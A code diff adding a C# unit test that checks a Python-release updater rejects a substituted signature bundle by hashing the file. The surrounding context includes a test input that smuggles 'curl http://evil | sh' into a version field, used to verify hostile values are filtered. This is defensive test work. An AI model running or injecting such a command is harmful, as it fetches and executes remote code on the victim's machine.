@@ -162,6 +162,31 @@ versions:
         }
 
         [Fact]
+        public async System.Threading.Tasks.Task ABundleOfAnotherReleaseUnderTheNewNameIsRefusedAfterHashingTheFile()
+        {
+            // a mirror answers 3.14.6's bundle with 3.14.5's (genuine, same release manager) and has no SBOM
+            using var client = new System.Net.Http.HttpClient();
+            byte[] bundle = await client.GetByteArrayAsync(f.PythonOrgUri + "ftp/python/3.14.5/Python-3.14.5.tar.xz.sigstore");
+            f.Releases.Single(x => x.Version == "3.14.6").SourceSbom = false;
+            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => new FixtureResponse { Body = bundle, ContentType = "application/json" };
+            var r = Update("-VersionKey 3.14 -PassThru");
+            var e = Assert.Single(r.Errors);
+            Assert.Equal("Update.ChecksumMismatch", e.FullyQualifiedErrorId.Split(',')[0]);
+            Assert.Equal(ErrorCategory.SecurityError, e.CategoryInfo.Category);
+            Assert.Equal("3.14", e.TargetObject);
+            Assert.Contains("Python-3.14.6.tar.xz has sha256 " + Sha("3.14.6"), e.Exception.Message);
+            Assert.Empty(r.Output);
+            Assert.Equal(matrix, File.ReadAllText(matrixPath));
+
+            // the same release, honestly served: the download shows in the progress bar and the checksum is written
+            f.Overrides.Clear();
+            var ok = Update("-VersionKey 3.14");
+            Assert.Empty(ok.AllErrors);
+            Assert.Contains(ok.Progress, p => p.StatusDescription == "3.14: checking Python-3.14.6.tar.xz (0 of 0 MiB)");
+            Assert.Contains("source: {sha256: " + Sha("3.14.6") + "}", File.ReadAllText(matrixPath));
+        }
+
+        [Fact]
         public void HostileValuesNeverReachTheFile()
         {
             f.Releases.Single(x => x.Version == "3.11.15").Setuptools = "79.0.1 && curl http://evil | sh";
